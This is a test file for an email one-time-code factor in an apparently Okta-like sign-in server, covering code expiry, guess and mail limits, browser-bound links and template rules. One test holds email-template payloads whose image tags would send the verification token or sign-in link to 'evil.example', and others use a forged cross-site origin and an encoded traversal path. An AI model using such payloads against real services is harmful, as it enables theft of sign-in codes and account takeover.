import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { sql } from '#src/platform/database/index.ts';
import { type TestApp, testApp } from '#test/kit/app.ts';
import { factorKit } from '#test/kit/factors.ts';
import { aClient, testBrowser } from '#test/kit/signin.ts';

let org: TestApp;
const { person, call, factors, enroll, list, verify, errorCode, mailTo, codeTo, otherToken } = factorKit(
  () => org,
);
beforeAll(async () => {
  org = await testApp();
});
afterAll(() => org.close());
beforeEach(() => org.platform.mail.clear());

const wrongCode = (code: string) => String((Number(code) + 1) % 1_000_000).padStart(6, '0');
const pause = () => org.clock.advance(6_000);
async function someone() {
  const { id, login } = await person();
  const factor = (await list(id))[0]?.id ?? '';
  return { id, login, factor };
}
async function challenged() {
  const who = await someone();
  expect((await verify(who.id, who.factor)).status).toBe(200);
  return { ...who, code: await codeTo(who.login) };
}

describe('what is refused', () => {
  test('a wrong code, and the right one to somebody else, for another factor or asker', async () => {
    const mine = await challenged();
    const theirs = await challenged();
    expect(errorCode(await verify(mine.id, mine.factor, { passCode: wrongCode(mine.code) }))).toBe(
      'E0000068',
    );
    if (mine.code !== theirs.code)
      expect(errorCode(await verify(mine.id, mine.factor, { passCode: theirs.code }))).toBe('E0000068');
    expect((await verify(mine.id, theirs.factor, { passCode: theirs.code })).status).toBe(404);
    // A program that did not ask has nothing to answer.
    const other = await otherToken();
    expect(errorCode(await verify(mine.id, mine.factor, { passCode: mine.code }, other))).toBe('E0000068');
    expect((await verify(mine.id, mine.factor, { passCode: mine.code })).json()).toEqual({
      factorResult: 'SUCCESS',
    });
  });

  test('one that was replaced, one that was used, and one that was never sent', async () => {
    const { id, factor, login, code } = await challenged();
    pause();
    await verify(id, factor);
    const second = await codeTo(login);
    if (second !== code) expect(errorCode(await verify(id, factor, { passCode: code }))).toBe('E0000068');
    expect((await verify(id, factor, { passCode: second })).status).toBe(200);
    expect(errorCode(await verify(id, factor, { passCode: second }))).toBe('E0000068');
    const nobody = await someone();
    expect(errorCode(await verify(nobody.id, nobody.factor, { passCode: '123456' }))).toBe('E0000068');
  });

  test('one that is a second too old, and right in the last second', async () => {
    const first = await challenged();
    org.clock.advance(300_000);
    const late = await verify(first.id, first.factor, { passCode: first.code });
    expect([errorCode(late), late.text]).toEqual(['E0000068', expect.stringContaining('too old')]);
    // Said of wrong ones too: it tells nothing of the code.
    const wrong = await verify(first.id, first.factor, { passCode: wrongCode(first.code) });
    expect(wrong.json().errorCauses).toEqual(late.json().errorCauses);
    const second = await challenged();
    org.clock.advance(299_000);
    expect((await verify(second.id, second.factor, { passCode: second.code })).status).toBe(200);
  });

  test('one that lives longer than ten minutes, whatever is asked for', async () => {
    const { id, factor } = await someone();
    const answer = await call('POST', factors(id, `/${factor}/verify?tokenLifetimeSeconds=86400`));
    const { expiresAt } = answer.json<{ expiresAt: string }>();
    expect(Date.parse(expiresAt) - org.clock.nowMs()).toBeLessThanOrEqual(600_000);
  });

  test('one that went to an address which is theirs no more', async () => {
    const { id, factor, code } = await challenged();
    await org.api('POST', `/api/v1/users/${id}`, { profile: { email: 'elsewhere@example.com' } });
    expect(errorCode(await verify(id, factor, { passCode: code }))).toBe('E0000068');
  });

  test('fifty guesses at once are fifty guesses, by every road together, and minutes later it opens again', async () => {
    const { id, factor, code, login } = await challenged();
    const guesses = await Promise.all(
      Array.from({ length: 50 }, (_, i) =>
        verify(id, factor, { passCode: String((Number(code) + 1 + i) % 1_000_000).padStart(6, '0') }),
      ),
    );
    const codes = guesses.map(errorCode);
    expect(codes.filter((one) => one === 'E0000068')).toHaveLength(5);
    expect(codes.filter((one) => one === 'E0000047')).toHaveLength(45);
    // Another asker does not have guesses of their own.
    const other = await otherToken();
    // Where no code waits there is nothing to guess; where one does, it is counted with the rest.
    expect(errorCode(await verify(id, factor, { passCode: '000000' }, other))).toBe('E0000068');
    pause();
    await verify(id, factor, undefined, other);
    expect(errorCode(await verify(id, factor, { passCode: '000000' }, other))).toBe('E0000047');
    expect(errorCode(await verify(id, factor, { passCode: code }))).toBe('E0000047');
    org.clock.advance(5 * 60_000 + 1_000);
    await verify(id, factor);
    expect((await verify(id, factor, { passCode: await codeTo(login) })).status).toBe(200);
  });

  test('a right code takes back the wrong ones before it', async () => {
    const { id, factor, login, code } = await challenged();
    for (let round = 0; round < 3; round++) {
      const right = round === 0 ? code : await codeTo(login);
      for (let n = 0; n < 4; n++) await verify(id, factor, { passCode: wrongCode(right) });
      expect((await verify(id, factor, { passCode: right })).status).toBe(200);
      pause();
      await verify(id, factor);
    }
  });

  test('of one code raced ten times one succeeds', async () => {
    for (let round = 0; round < 3; round++) {
      const { id, factor, code } = await challenged();
      const answers = await Promise.all([1, 2, 3, 4, 5].map(() => verify(id, factor, { passCode: code })));
      expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
    }
  });

  test('two mails within five seconds, and an eleventh in an hour', async () => {
    const { id, factor, login } = await someone();
    await verify(id, factor);
    const soon = await verify(id, factor);
    expect([soon.status, errorCode(soon)]).toEqual([429, 'E0000118']);
    const atOnce = async () => {
      pause();
      return Promise.all([1, 2, 3, 4, 5].map(() => verify(id, factor)));
    };
    expect((await atOnce()).filter(({ status }) => status === 200)).toHaveLength(1);
    await org.eventTypes();
    let last = '';
    for (let n = 0; n < 12; n++) {
      pause();
      last = errorCode(await verify(id, factor)) ?? '';
    }
    expect(last).toBe('E0000047');
    await mailTo(login);
    expect(org.mails.filter(({ to }) => to === login)).toHaveLength(10);
    const events = await org.api<{ eventType: string; outcome: { result: string; reason: string } }[]>(
      'GET',
      '/api/v1/logs?limit=5&sortOrder=DESCENDING',
    );
    expect(events[0]).toMatchObject({
      eventType: 'system.email.send_factor_verify_message',
      outcome: { result: 'DENY', reason: expect.stringContaining('too many codes in an hour') },
    });
    org.clock.advance(61 * 60_000);
    expect((await verify(id, factor)).status).toBe(200);
  });
});

describe('the factor', () => {
  test('is everybody’s whose account is active and has an address, and goes only with the address', async () => {
    const { id, login } = await person();
    expect(await list(id)).toMatchObject([
      {
        id: `emf${id.slice(3)}`,
        factorType: 'email',
        provider: 'OKTA',
        status: 'ACTIVE',
        profile: { email: login },
      },
    ]);
    const staged = await org.api<{ id: string }>('POST', '/api/v1/users?activate=false', {
      profile: { firstName: 'A', lastName: 'B', email: 'staged@example.com', login: 'staged@example.com' },
    });
    expect(await list(staged.id)).toEqual([]);
    expect(errorCode(await call('DELETE', factors(id, `/emf${id.slice(3)}`)))).toBe('E0000038');
    const body = { factorType: 'email', provider: 'OKTA', profile: { email: login } };
    expect((await call('POST', factors(id), body)).text).toContain('already set up');
  });

  test('of the second address is proved by a code, told in the log, and void when the address is another', async () => {
    const { id } = await person({ secondEmail: 'Second@example.com' });
    const body = (email: string) => ({ factorType: 'email', provider: 'OKTA', profile: { email } });
    expect(errorCode(await call('POST', factors(id), body('stranger@example.com')))).toBe('E0000001');
    await org.eventTypes();
    const made = await enroll(id, body('second@example.com'));
    expect(made).toMatchObject({ status: 'PENDING_ACTIVATION', profile: { email: 'Second@example.com' } });
    const mail = await mailTo('second@example.com');
    expect(mail?.text).not.toContain('/signin/email/');
    const code = await codeTo('second@example.com');
    const activate = (passCode: string) =>
      call('POST', factors(id, `/${made.id}/lifecycle/activate`), { passCode });
    expect(errorCode(await activate(''))).toBe('E0000068');
    expect(errorCode(await activate(wrongCode(code)))).toBe('E0000068');
    pause();
    expect((await call('POST', factors(id, `/${made.id}/resend`), { factorType: 'email' })).status).toBe(200);
    expect(errorCode(await call('POST', factors(id, `/${made.id}/resend`), { factorType: 'email' }))).toBe(
      'E0000118',
    );
    expect((await activate(await codeTo('second@example.com'))).json()).toMatchObject({ status: 'ACTIVE' });
    expect((await org.eventTypes()).filter((type) => type.startsWith('user.'))).toEqual([
      'user.mfa.factor.activate',
    ]);
    expect(await list(id)).toHaveLength(2);
    await org.api('POST', `/api/v1/users/${id}`, { profile: { secondEmail: 'third@example.com' } });
    expect(await list(id)).toHaveLength(1);
    expect((await verify(id, made.id)).status).toBe(404);
  });

  test('keeps no code that could be read, and its mail lies sealed', async () => {
    const { login, code } = await challenged();
    const link = /\/signin\/email\/(\S+)/.exec((await mailTo(login))?.text ?? '')?.[1] ?? 'none';
    const rows = await org.platform.database.query<{ text: string }>(sql`
      select row_to_json(j)::text as text from pgboss.job j union all select row_to_json(s)::text from sent_codes s`);
    const everything = rows.map(({ text }) => text).join('\n');
    expect(everything).not.toContain(link);
    const jobs = everything.split('\n').filter((row) => row.includes('signin.factor-mail'));
    expect(jobs.length).toBeGreaterThan(0);
    expect(jobs.some((row) => row.includes(`"${code}"`))).toBe(false);
  });

  test('writes in the language of the person, escaped', async () => {
    const { id, login } = await person({ preferredLanguage: 'ja', lastName: '<b>田中</b>', firstName: '葵' });
    await verify(id, `emf${id.slice(3)}`);
    const mail = await mailTo(login);
    expect(mail?.subject).toContain('確認コード');
    expect(mail?.html).toContain('&lt;b&gt;田中&lt;/b&gt;');
    expect(mail?.html).not.toContain('<b>');
  });

  test('says what the organisation wants it to say', async () => {
    const [brand] = await org.api<{ id: string }[]>('GET', '/api/v1/brands');
    const customizations = `/api/v1/brands/${brand?.id}/templates/email/EmailChallenge/customizations`;
    const leaking = {
      language: 'en',
      isDefault: true,
      subject: 's',
      body: '<img src="https://evil.example/${verificationToken}">${verificationToken}',
    };
    expect(errorCode(await call('POST', customizations, leaking))).toBe('E0000001');
    const link = {
      ...leaking,
      body: '<img src="https://evil.example/?${emailAuthenticationLink}">${verificationToken}',
    };
    expect(errorCode(await call('POST', customizations, link))).toBe('E0000001');
    const made = await org.api<{ id: string }>('POST', customizations, {
      language: 'en',
      isDefault: true,
      subject: 'Guten Tag',
      body: '<p>Der Code:</p><p>${verificationToken}</p><a href="${emailAuthenticationLink}">Hier</a>',
    });
    const { id, login } = await person();
    await verify(id, `emf${id.slice(3)}`);
    expect((await mailTo(login))?.subject).toBe('Guten Tag');
    expect((await mailTo(login))?.html).toContain('http://localhost:8080/signin/email/');
    await call('DELETE', `${customizations}/${made.id}`);
    await call('DELETE', customizations);
  });
});

describe('the link in the mail', () => {
  const browserOf = () => testBrowser(org.app.http);
  type Browser = ReturnType<typeof browserOf>;
  /** As a sign-in in this browser asks: its binding is the browser's. */
  async function asked(browser: Browser) {
    const { id, login } = await person();
    await browser.get('/signin');
    const { hash } = org.app.signIn.pages.bindings.of(Object.fromEntries(browser.cookies));
    const user = await org.app.directory.users.getUser(id);
    const by = {
      actor: { id, type: 'User' as const, alternateId: login, displayName: login },
      client: aClient,
    };
    const request = { by, client: aClient, binding: hash };
    const factorId = `emf${id.slice(3)}`;
    await org.app.signIn.factors.challenge(user, factorId, request);
    const path =
      /http:\/\/localhost:8080(\/signin\/email\/\S+)/.exec((await mailTo(login))?.text ?? '')?.[1] ?? '';
    const poll = async () => (await org.app.signIn.factors.poll(user, factorId, request)).result;
    return { login, path, poll, user, factorId, request };
  }

  test('opened by a scanner, or in another browser, shows nothing and does nothing', async () => {
    const browser = browserOf();
    const { path, poll, login } = await asked(browser);
    const scanner = browserOf();
    for (let n = 0; n < 3; n++) {
      const page = await scanner.get(path);
      expect(page.status).toBe(200);
      expect(page.text).toContain('Open this link in the browser in which you began');
      for (const secret of [login, '<form', path]) expect(page.text).not.toContain(secret);
    }
    const form = { t: 'whatever' };
    const posted = await org.inject({
      method: 'POST',
      url: path,
      headers: {
        'content-type': 'application/x-www-form-urlencoded',
        origin: 'http://localhost:8080',
        'sec-fetch-site': 'same-origin',
      },
      body: new URLSearchParams(form).toString(),
    });
    expect(posted.status).toBe(403);
    expect(await poll()).toBe('WAITING');
  });

  test('opened where it was asked for asks first, and is good once', async () => {
    const browser = browserOf();
    const { path, poll, login, user, factorId, request } = await asked(browser);
    for (let n = 0; n < 3; n++) expect((await browser.get(path)).text).toContain(login);
    expect(await poll()).toBe('WAITING');
    const page = await browser.get(path);
    const elsewhere = await browser.submit(
      page,
      {},
      { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
    );
    expect(elsewhere.status).toBe(403);
    expect(await poll()).toBe('WAITING');
    expect((await browser.submit(page, {})).text).toContain('Go back to the tab in which you began');
    expect((await browser.submit(page, {})).status).toBe(410);
    expect((await browser.get(path)).status).toBe(410);
    // Whoever waits in another browser hears nothing of it.
    const stranger = { ...request, binding: 'another browser' };
    expect((await org.app.signIn.factors.poll(user, factorId, stranger)).result).toBe('TIMEOUT');
    const polls = await Promise.all([poll(), poll(), poll()]);
    expect(polls.filter((result) => result === 'SUCCESS')).toHaveLength(1);
    expect(await poll()).not.toBe('SUCCESS');
  });

  test('helps a browser without scripts, too: an empty code asks for it, and is no guess', async () => {
    const browser = browserOf();
    const { path, user, factorId, request } = await asked(browser);
    for (let n = 0; n < 8; n++)
      expect((await org.app.signIn.factors.check(user, factorId, { passCode: '' }, request)).result).toBe(
        'FAILED',
      );
    await browser.submit(await browser.get(path), {});
    const { result, proof } = await org.app.signIn.factors.check(user, factorId, { passCode: '' }, request);
    expect([result, proof]).toMatchObject([
      'SUCCESS',
      { key: 'okta_email', method: 'email', is: ['possession', 'userPresence'], amr: ['otp'] },
    ]);
  });

  test('is dead with the code beside it, and after its time', async () => {
    const browser = browserOf();
    const { path, login, user, factorId, request } = await asked(browser);
    const code = await codeTo(login);
    expect((await org.app.signIn.factors.check(user, factorId, { passCode: code }, request)).result).toBe(
      'SUCCESS',
    );
    expect((await browser.get(path)).status).toBe(410);
    const again = await asked(browser);
    org.clock.advance(300_000);
    expect((await browser.get(again.path)).status).toBe(410);
    for (const odd of ['/signin/email/x', '/signin/email/..%2f', `/signin/email/${'A'.repeat(22)}`])
      expect((await browser.get(odd)).status).toBe(410);
  });
});

describe('the way in by mail', () => {
  const way = () => org.app.signIn.ways.find(({ name }) => name === 'email');
  const request = (login: string, more: object = {}) => ({
    login,
    subject: undefined,
    appId: undefined,
    binding: 'this browser',
    client: aClient,
    state: undefined,
    ...more,
  });
  const take = (login: string, passCode: string, more?: object) =>
    way()?.take(new Map([['passCode', passCode]]), request(login, more));
  const wrong = { stay: { problem: 'way.email.wrong' } };

  test('answers the same whoever the login is of, and mails only whom it may', async () => {
    const { login } = await person();
    const { id: left, login: leftLogin } = await person();
    await org.api('POST', `/api/v1/users/${left}/lifecycle/deactivate`);
    for (const one of [login, leftLogin, 'nobody@example.com', '', 'x'.repeat(300)])
      expect(await way()?.begin(request(one))).toEqual({});
    await org.platform.jobs.drain();
    expect(org.mails.filter(({ kind }) => kind === 'signin.challenge').map(({ to }) => to)).toEqual([login]);
    for (const one of [login, leftLogin, 'nobody@example.com'])
      expect(await take(one, '000000x')).toEqual(wrong);
    for (const one of [login, leftLogin, 'nobody@example.com'])
      expect(await way()?.poll?.(request(one))).toEqual({ stay: {} });
    // Also beyond every limit.
    for (const one of [login, leftLogin, 'nobody@example.com']) {
      for (let n = 0; n < 4; n++) expect([one, await take(one, '000000x')]).toEqual([one, wrong]);
      expect([one, await take(one, '000000x')]).toMatchObject([one, { stay: { tooOften: {} } }]);
    }
  });

  test('guessed at by strangers takes nothing from the code in the owner’s own browser', async () => {
    const { id, login } = await person();
    const stranger = (n: number) => ({
      binding: `stranger ${n}`,
      client: { ...aClient, ipAddress: `198.18.${n}.1` },
    });
    await way()?.begin(request(login, stranger(0)));
    await codeTo(login);
    pause();
    await way()?.begin(request(login));
    const code = await codeTo(login);
    // With a code that waits in their browser, and without.
    for (let n = 0; n < 60; n++) {
      await take(login, '000000x', { ...stranger(n), binding: n % 2 === 0 ? 'stranger 0' : `stranger ${n}` });
    }
    expect(await take(login, code)).toMatchObject({ proved: { userId: id } });
  });

  test('has one code guessed at five times, from however many networks', async () => {
    const { login } = await person();
    await way()?.begin(request(login));
    const code = await codeTo(login);
    const far = (n: number) => ({ client: { ...aClient, ipAddress: `198.19.${n}.1` } });
    const guess = (n: number) => String((Number(code) + n) % 1_000_000).padStart(6, '0');
    for (let n = 1; n <= 5; n++) expect(await take(login, guess(n), far(n))).toEqual(wrong);
    expect(await take(login, code, far(6))).toEqual(wrong);
    // A new one is a new one.
    pause();
    await way()?.begin(request(login));
    expect(await take(login, await codeTo(login), far(7))).toMatchObject({ proved: {} });
  });

  test('lets in whoever has the code in the browser that asked, once, and nobody else', async () => {
    const { id, login } = await person();
    await way()?.begin(request(login));
    const code = await codeTo(login);
    expect(await take(login, code, { binding: 'another browser' })).toEqual(wrong);
    expect(await take(login, code, { subject: '00uSomebodyElse00000' })).toEqual(wrong);
    await org.eventTypes();
    expect(await take(login, code)).toMatchObject({
      proved: {
        userId: id,
        proof: { key: 'okta_email', method: 'email', is: ['possession', 'userPresence'] },
      },
    });
    expect(await take(login, code)).toEqual(wrong);
    expect((await org.eventTypes()).filter((type) => type.startsWith('user.'))).toEqual([
      'user.authentication.auth_via_mfa',
      'user.authentication.auth_via_mfa',
    ]);
  });

  test('guessed at by a stranger costs the factor of its owner nothing', async () => {
    const { id, login } = await person();
    await way()?.begin(request(login));
    for (let n = 0; n < 20; n++) await take(login, '000000x');
    pause();
    await verify(id, `emf${id.slice(3)}`);
    expect((await verify(id, `emf${id.slice(3)}`, { passCode: await codeTo(login) })).status).toBe(200);
  });

  test('bombs nobody: five mails in an hour, whoever asks, and one network asks a hundred times', async () => {
    const { id, login } = await person();
    for (let n = 0; n < 12; n++) {
      await way()?.begin(request(login, { binding: `browser ${n}` }));
      await org.platform.jobs.drain();
      pause();
    }
    expect(org.mails.filter(({ to }) => to === login)).toHaveLength(5);
    // The owner's own way is not used up by it.
    expect((await verify(id, `emf${id.slice(3)}`)).status).toBe(200);
    org.platform.mail.clear();
    for (let n = 0; n < 100; n++) await way()?.begin(request(`nobody${n}@example.com`));
    const another = await person();
    await way()?.begin(request(another.login));
    expect(await mailTo(another.login)).toBeUndefined();
    const elsewhere = { client: { ...aClient, ipAddress: '198.51.100.77' } };
    await way()?.begin(request(another.login, elsewhere));
    expect(await mailTo(another.login)).toBeDefined();
    org.clock.advance(61 * 60_000);
  });

  test('is offered as far as the authenticator is for signing in', async () => {
    const all = await org.api<{ id: string; key: string }[]>('GET', '/api/v1/authenticators');
    const id = all.find(({ key }) => key === 'okta_email')?.id;
    const set = (allowedFor: string) =>
      org.api('PUT', `/api/v1/authenticators/${id}`, {
        key: 'okta_email',
        name: 'Email',
        settings: { allowedFor, tokenLifetimeInMinutes: 5 },
      });
    const who = await person();
    const user = await org.app.directory.users.getUser(who.id);
    for (const [allowedFor, isOffered] of [
      ['none', false],
      ['recovery', false],
      ['sso', true],
      ['any', true],
    ] as const) {
      await set(allowedFor);
      expect([allowedFor, way()?.isOffered()]).toEqual([allowedFor, isOffered]);
      expect((await org.app.signIn.factors.usable(user)).length > 0).toBe(isOffered);
      org.platform.mail.clear();
      await way()?.begin(request(who.login, { binding: allowedFor }));
      expect((await mailTo(who.login)) !== undefined).toBe(isOffered);
      pause();
    }
  });
});
